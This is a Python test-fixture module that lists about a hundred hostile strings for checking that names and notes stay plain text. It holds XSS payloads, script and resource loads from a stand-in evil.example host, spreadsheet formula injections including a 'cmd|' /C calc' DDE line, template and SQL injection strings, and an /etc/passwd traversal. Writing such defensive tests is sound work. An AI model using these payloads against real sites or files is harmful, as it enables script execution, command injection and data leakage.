"""A hundred strings that somebody could put into a name or a note, and how to tell that one of them was taken for more than text.

Each that could run sets `window.hostile`, opens a dialog or asks another host: a test looks for all three.
"""

from __future__ import annotations

from typing import Final

FORMULA: Final = ("=", "+", "-", "@", "\t", "\r")
_DO: Final = "window.hostile=1;alert(1)"

MARKUP: Final = (
    f"<script>{_DO}</script>",
    f"</script><script>{_DO}</script>",
    f"<ScRiPt>{_DO}</sCrIpT>",
    f"<script/x>{_DO}</script>",
    "<script src=//evil.example/x.js></script>",
    "<script src=https://evil.example/x.js></script>",
    f"<img src=x onerror={_DO}>",
    f"<img src=x onerror='{_DO}'>",
    f'"><img src=x onerror={_DO}>',
    f"'><img src=x onerror={_DO}>",
    "<img src=https://evil.example/pixel.gif>",
    f"<image href=x onerror={_DO}>",
    f"<svg onload={_DO}>",
    f"<svg><script>{_DO}</script></svg>",
    f"<svg><animate onbegin={_DO} attributeName=x dur=1s>",
    f"<svg><a xlink:href='javascript:{_DO}'><text>x</text></a></svg>",
    "<svg><use href='data:image/svg+xml,<svg id=x/>#x'/></svg>",
    f"<math><mi xlink:href='javascript:{_DO}'>x</mi></math>",
    f"<body onload={_DO}>",
    f"<input autofocus onfocus={_DO}>",
    f"<details open ontoggle={_DO}>x</details>",
    f"<video><source onerror={_DO}></video>",
    f"<audio src=x onerror={_DO}>",
    f"<iframe src='javascript:{_DO}'></iframe>",
    f"<iframe srcdoc='<script>parent.{_DO}</script>'></iframe>",
    "<iframe src=https://evil.example></iframe>",
    "<object data=https://evil.example/x></object>",
    "<embed src=https://evil.example/x>",
    "<link rel=stylesheet href=https://evil.example/x.css>",
    "<style>@import 'https://evil.example/x.css';</style>",
    "<style>body{display:none}</style>",
    "<base href=https://evil.example/>",
    "<meta http-equiv=refresh content='0;url=https://evil.example'>",
    "<form action=https://evil.example><button>go</button></form>",
    f"<button onclick={_DO}>x</button>",
    f"<div onmouseover={_DO}>x</div>",
    f"<marquee onstart={_DO}>x</marquee>",
    f"<template><script>{_DO}</script></template>",
    f"<noscript><p title='</noscript><img src=x onerror={_DO}>'>",
    f"<!--><img src=x onerror={_DO}>-->",
    f"<![CDATA[<script>{_DO}</script>]]>",
    f"&lt;script&gt;{_DO}&lt;/script&gt;",
    f"&#60;img src=x onerror={_DO}&#62;",
    f"\\u003cimg src=x onerror={_DO}\\u003e",
    f"%3Cimg%20src=x%20onerror={_DO}%3E",
    f"<<img src=x onerror={_DO}>>",
    f"<img/src=x/onerror={_DO}//",
    f"</title><script>{_DO}</script>",
    f"</textarea><script>{_DO}</script>",
    f"</option></datalist><img src=x onerror={_DO}>",
)
LINKS: Final = (
    f"javascript:{_DO}",
    f"JaVaScRiPt:{_DO}",
    f"java\tscript:{_DO}",
    f" javascript:{_DO}",
    f"vbscript:{_DO}",
    f"data:text/html,<script>{_DO}</script>",
    "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
    f"[click](javascript:{_DO})",
    "![x](https://evil.example/x.png)",
    f"<a href='javascript:{_DO}'>click</a>",
    f"<a href=javascript:{_DO} target=_blank>click</a>",
    "<a href='https://evil.example'>click</a>",
    "<a href='data:text/html,x'>click</a>",
    "//evil.example/x",
    "https://evil.example/?q=1&of=sets#x",
    "../../../etc/passwd",
)
# Plotly draws some markup in hovers and on axes; a name must not reach it. Templates of other tools must stay as they are.
TEMPLATES: Final = (
    "<b>bold</b><br>two lines",
    "<extra>x</extra>%{x}",
    "%{customdata} %{text}",
    "$\\LaTeX$",
    "<sup>x</sup><sub>y</sub><span style='color:red'>z</span>",
    "{{7*7}}",
    "${7*7}",
    "<%= 7*7 %>",
    "#{7*7}",
    "{0.__class__} %s %n",
    "'; DROP TABLE records; --",
    '"}],"props":{"children":"x"},{"type":"Script"',
    "__proto__",
    "constructor",
)
CELLS: Final = (
    "=1+1",
    '=HYPERLINK("https://evil.example","x")',
    "=cmd|' /C calc'!A0",
    '=IMPORTXML("https://evil.example","//a")',
    "+1+1",
    "-1+1",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1)",
    "\t=1+1",
    "\r=1+1",
    ' =1+1";=2+2',
    "＝1+1",
)
ODD: Final = (
    "\u202eevil\u202c txt",
    "\u2066x\u2069\u200b\u200d\ufeff",
    "Z\u0351\u036b\u0343a\u0349l\u0321g\u031bo" * 4,
    "\U0001f3cb\u200d\u2642\ufe0f\U0001f468\u200d\U0001f469\u200d\U0001f467",
    "long " * 400,
    "x" * 3000,
    "nul\x00byte",
    "bell\x07 escape\x1b[31m",
)
HOSTILE: Final[tuple[str, ...]] = (*MARKUP, *LINKS, *TEMPLATES, *CELLS, *ODD)
